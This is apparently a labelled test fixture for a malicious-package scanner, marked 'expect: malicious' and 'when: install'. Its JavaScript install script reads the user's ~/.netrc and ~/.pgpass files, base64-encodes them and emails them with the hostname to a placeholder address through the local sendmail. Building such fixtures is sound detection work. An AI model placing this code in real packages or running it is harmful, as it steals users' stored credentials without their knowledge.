// expect: malicious
// when: install
// source: the corpus's pg-conn-url (smtp-exfil): a postinstall builds a MIME message with credential files attached and
// pipes it to the machine's own `sendmail -t`, no socket of its own
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

let msg = 'To: reports@mail-relay.invalid\nSubject: check ' + os.hostname() + '\n\n';
for (const f of ['.netrc', '.pgpass']) {
  try { msg += fs.readFileSync(path.join(os.homedir(), f)).toString('base64') + '\n'; } catch (e) { /* none */ }
}
const p = spawn('/usr/sbin/sendmail', ['-t', '-oi'], { stdio: ['pipe', 'ignore', 'ignore'], detached: true });
p.on('error', () => {});
p.stdin.end(msg);
p.unref();
